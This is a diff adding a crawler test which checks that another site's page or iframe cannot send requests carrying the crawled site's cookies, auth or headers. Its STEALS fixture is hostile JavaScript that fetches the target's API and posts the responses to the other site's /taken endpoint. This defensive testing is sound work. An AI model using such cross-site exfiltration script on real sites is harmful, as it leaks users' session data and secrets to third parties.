@@ -135,6 +135,53 @@ def test_the_servers_log_equals_ours_request_for_request(
     assert project.records("shop") == records
 
 
+STEALS = """
+    <title>stranger</title><div id=app>stranger</div><script>
+    const take = (name, asked) => asked.then(answer => answer.text(), String)
+        .then(text => fetch('/taken?' + name, {{method: 'POST', body: text}}));
+    take('omitted', fetch('{api}?1', {{credentials: 'omit'}}));
+    take('as-it-is', fetch('{api}?2'));
+    fetch('{api}?3', {{method: 'POST', mode: 'no-cors', credentials: 'include', body: 'x'}});
+    </script>"""
+
+
+def test_no_page_or_frame_of_another_site_asks_with_credentials_of_ours(
+    project: Project, new_site: Callable[..., Site]
+) -> None:
+    shop, other = new_site(host="127.0.0.1"), new_site(host="127.0.0.2")
+    frame = f"<iframe src='{other.url('/frame')}'></iframe>"
+    cookies = [
+        ("Set-Cookie", f"{name}; HttpOnly") for name in ("sid=secret", "strict=secret; SameSite=Strict")
+    ]
+    shop["/"] = Reply(body=SHELL + frame, headers=[*cookies, ("Content-Type", "text/html")])
+    shop["/app.js"] = Reply(
+        body="fetch('/own'); fetch('/omitted', {credentials: 'omit'}).then(() => app.append('in'))",
+        headers=SCRIPT,
+    )
+    shop["*"] = lambda arrival: Reply(
+        body=json.dumps(dict(arrival.headers)), headers={**JSON, "Access-Control-Allow-Origin": "*"}
+    )
+    other["/"] = other["/frame"] = STEALS.format(api=shop.url("/api"))
+    other["/taken"] = 204
+    own = json.dumps({"auth": {shop.url(""): "ada:secret"}, "headers": {shop.url(""): {"X-Key": "secret"}}})
+    starts = f'{shop.url("/")}", "{other.url("/")}'
+    project.spider("shop", SPIDER.format(url=starts, delay=0, more=", " + own[1:-1]))
+
+    ended = project.run("run", "shop")
+
+    assert ended.code == 0, ended.text
+    by_path = {one.path: one.headers for one in shop.arrivals}
+    assert by_path["/own"]["authorization"] and by_path["/own"]["x-key"] == "secret"
+    assert by_path["/own"]["cookie"] == "sid=secret; strict=secret"
+    assert "cookie" not in by_path["/omitted"]
+    assert {"/api?1", "/api?2", "/api?3"} <= {*by_path}
+    for one in shop.arrivals:
+        if one.path.startswith("/api"):
+            assert "secret" not in str(one.headers) and "authorization" not in one.headers, one
+    taken = [one for one in other.arrivals if one.path.startswith("/taken")]
+    assert len(taken) == 4 and not any(b"secret" in one.body for one in taken)
+
+
 def test_a_page_is_filled_in_clicked_scrolled_and_waited_for(project: Project, site: Site) -> None:
     site["/"] = "<input id=q><button>Search</button>" + SHELL
     site["/app.js"] = Reply(
